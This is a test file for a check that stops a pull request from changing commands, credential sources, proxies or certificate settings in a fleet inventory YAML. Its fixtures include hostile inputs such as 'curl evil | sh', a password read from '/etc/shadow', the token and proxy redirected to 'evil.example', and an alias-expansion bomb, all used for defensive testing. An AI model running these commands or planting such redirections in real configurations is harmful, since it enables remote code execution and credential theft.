// A plan runs what its inventory says: that of a pull request must say the same as that of the target branch.
import { describe, expect, it, test } from 'vitest';

import { checkSameCommands } from '../../../../src/fleet/inventory/same-commands.ts';
import { FleetError } from '../../../../src/shared/base/errors.ts';

const base = `organization: https://dev.azure.com/example
token: { env: AZP_TOKEN }
proxy: { https: http://proxy.lab.example:3128 }
projects: [vision]
defaults: { pool: gpu-lab, sshConfig: ssh_config, labels: { env: lab } }
groups:
  hopper: { hosts: [h200-1], vars: { dockerfile: images/vision, sudoPassword: { cmd: pass show sudo } } }
hosts:
  h200-1: { dockerfile: { folder: images/one, builder: h200-1 } }
  h200-2: { webhook: { url: { file: hook } } }
`;

/** Returns the problems as `code what`, sorted. */
function problems(now: string, before = base): readonly string[] {
  try {
    checkSameCommands({ name: 'pr.yaml', text: now }, { name: 'main.yaml', text: before });
    return [];
  } catch (error) {
    if (!(error instanceof FleetError)) throw error;
    expect(error.exitCode).toBe(2);
    return (error.problem.details ?? [error.problem]).map(({ code, what }) => `${code} ${what}`);
  }
}

const replaced = (from: string, to: string): string => {
  expect(base).toContain(from);
  return base.replace(from, to);
};
const added = (line: string): string => `${base}${line}\n`;
const differs = (path: string) => [
  expect.stringMatching(
    new RegExp(`^inventory\\.commands-differ pr\\.yaml:\\d+:\\d+: ${path} differs from main\\.yaml$`),
  ),
];

describe('may differ', () => {
  it.each<[string, string]>([
    ['nothing', base],
    ['comments', `# comment\n${base}`],
    [
      'a new host, with addresses, pools and agents',
      added('  h200-3: { address: 192.0.2.9, pool: other, agents: 2 }'),
    ],
    ['a new host in a group with commands', replaced('hosts: [h200-1]', 'hosts: [h200-1, h200-2]')],
    [
      'labels and capabilities of any name',
      replaced('labels: { env: lab }', 'labels: { env: prod, cmd: x, file: y }'),
    ],
    [
      'labels of a host',
      replaced('h200-1: {', 'h200-1: { labels: { cmd: x }, capabilities: { dockerfile: y },'),
    ],
    ['projects and waves', `${replaced('[vision]', '[vision, audio]')}waves: { maxUnavailable: 50% }\n`],
    ['a host named as one of the keys', added('  cmd: { address: 192.0.2.9 }\n  env: {}')],
    ['versions', replaced('pool: gpu-lab', 'pool: gpu-lab, docker: { version: 29.7.2 }')],
  ])('%s', (_, text) => {
    expect(problems(text)).toEqual([]);
  });

  it('the notation: an anchor or a merge of the same value', () => {
    const anchored = `x: &image { dockerfile: images/vision }\n`;
    const merged = replaced(
      'vars: { dockerfile: images/vision,',
      'vars: { <<: &v { dockerfile: images/vision },',
    );
    expect(problems(merged)).toEqual([]);
    // A key that azp-fleet does not know may not come in beside it.
    expect(problems(`${anchored}${base}`)).toEqual(differs('x'));
  });
});

describe('may not differ', () => {
  it.each<[string, string, string]>([
    ['a command', replaced('pass show sudo', 'curl evil | sh'), 'groups.hopper.vars.sudoPassword.cmd'],
    [
      'a command instead of a file',
      replaced('{ file: hook }', '{ file: hook, cmd: id }'),
      'hosts.h200-2.webhook.url.cmd',
    ],
    [
      'a command of a new host',
      added('  evil: { loginPassword: { cmd: id } }'),
      'hosts.evil.loginPassword.cmd',
    ],
    [
      'the same command at another host',
      added('  x: { sudoPassword: { cmd: pass show sudo } }'),
      'hosts.x.sudoPassword.cmd',
    ],
    [
      'the token as the password of a new host',
      added('  evil: { loginPassword: { env: AZP_TOKEN } }'),
      'hosts.evil.loginPassword.env',
    ],
    [
      'a file as the password',
      added('  evil: { sudoPassword: { file: /etc/shadow } }'),
      'hosts.evil.sudoPassword.file',
    ],
    [
      'sshConfig of defaults',
      replaced('sshConfig: ssh_config', 'sshConfig: evil_config'),
      'defaults.sshConfig',
    ],
    ['sshConfig that is gone', replaced('sshConfig: ssh_config, ', ''), 'defaults.sshConfig'],
    ['sshConfig of a group', replaced('vars: {', 'vars: { sshConfig: evil,'), 'groups.hopper.vars.sshConfig'],
    [
      'a dockerfile',
      replaced('dockerfile: images/vision', 'dockerfile: /root'),
      'groups.hopper.vars.dockerfile',
    ],
    ['a part of a dockerfile', replaced('folder: images/one', 'folder: /root'), 'hosts.h200-1.dockerfile'],
    [
      'a variable in it, which is not expanded',
      replaced('images/vision', '"images/${X:-vision}"'),
      'groups.hopper.vars.dockerfile',
    ],
    [
      'the organization, which gets the token',
      replaced('dev.azure.com/example', 'evil.example/x'),
      'organization',
    ],
    ['the source of the token', replaced('{ env: AZP_TOKEN }', '{ cmd: id }'), 'token'],
    ['a proxy', replaced('proxy.lab.example', 'evil.example'), 'proxy'],
    ['a certificate authority', `ca: evil.pem\n${base}`, 'ca'],
    ['hosts of another file', `hostsFrom: { terraform: evil.json }\n${base}`, 'hostsFrom'],
    ['registries', `registries: { r.example: { user: x, secret: { cmd: id } } }\n${base}`, 'registries'],
    ['an unknown key', `run: { cmd: id }\n${base}`, 'run'],
    ['a command below unknown keys', added('  x: { a: [ { b: { cmd: id } } ] }'), 'hosts.x.a.0.b.cmd'],
    [
      'a command in a host that is named labels',
      added('  labels: { sudoPassword: { cmd: id } }'),
      'hosts.labels.sudoPassword.cmd',
    ],
    ['labels elsewhere', added('  x: { jobs: { labels: { cmd: id } } }'), 'hosts.x.jobs.labels.cmd'],
    [
      'a command by a merge',
      replaced('h200-2: {', 'h200-2: &h { sudoPassword: { cmd: id },'),
      'hosts.h200-2.sudoPassword.cmd',
    ],
  ])('%s', (_, text, path) => {
    expect(problems(text)).toEqual(differs(path.replaceAll('.', String.raw`\.`)));
  });

  it('what an alias or a merge brings to another place', () => {
    const aliased = replaced('h200-1], vars: {', 'h200-1], vars: &v {').replace(
      '  h200-2: {',
      '  h200-3: { <<: *v }\n  h200-2: {',
    );
    expect(problems(aliased)).toHaveLength(2);
    expect(problems(aliased).join('\n')).toMatch(
      /hosts\.h200-3\.dockerfile[^]*hosts\.h200-3\.sudoPassword\.cmd/,
    );
    const password = replaced('sudoPassword: {', 'sudoPassword: &p {').replace(
      'h200-2: {',
      'h200-2: { sudoPassword: *p,',
    );
    expect(problems(password)).toEqual(differs(String.raw`hosts\.h200-2\.sudoPassword\.cmd`));
  });

  it('several values are all named, and values are shown without escapes', () => {
    const text = replaced('pass show sudo', '"\\e[2Jx"').replace('images/one', 'images/two');
    expect(problems(text)).toHaveLength(2);
    expect(problems(text).join('')).not.toContain('\u001b');
  });
});

describe('a text that is not clear stops it', () => {
  it.each<[string, string, string]>([
    [
      'duplicate keys',
      replaced('sshConfig: ssh_config', 'sshConfig: ssh_config, sshConfig: evil'),
      'inventory.duplicate-key',
    ],
    ['duplicate keys at the top', `${base}token: { cmd: id }\n`, 'inventory.duplicate-key'],
    ['invalid YAML', `${base}  : : {`, 'inventory.yaml'],
    ['two documents', `${base}---\n${base}`, 'inventory.yaml'],
    ['an alias without an anchor', added('  x: *none'), 'inventory.alias'],
    ['a merge of a text', added('  x: { <<: text }'), 'inventory.alias'],
  ])('%s', (_, text, code) => {
    expect(problems(text)[0]).toContain(`${code} pr.yaml:`);
    // Also in the inventory of the target branch.
    expect(problems(base, text)[0]).toContain(`${code} main.yaml:`);
  });

  it('aliases that expand without an end', () => {
    const levels = Array.from({ length: 12 }, (_, level) => {
      const inside =
        level === 0
          ? '[x]'
          : `[${Array(9)
              .fill(`*a${level - 1}`)
              .join(', ')}]`;
      return `  a${level}: &a${level} ${inside}`;
    });
    expect(problems(`${base}${levels.join('\n')}\n`)[0]).toContain('inventory.yaml');
  });

  it.each(['', 'text', '[1, 2]', 'null'])('%o is no inventory', (text) => {
    expect(problems(text)).not.toEqual([]);
  });
});

test('nothing is expanded and nothing is read: unset variables and missing files do not matter', () => {
  const text =
    'organization: ${NOWHERE}\ntoken: { file: /nowhere }\nhosts: { a: { dockerfile: /nowhere } }\n';
  expect(problems(text, text)).toEqual([]);
});
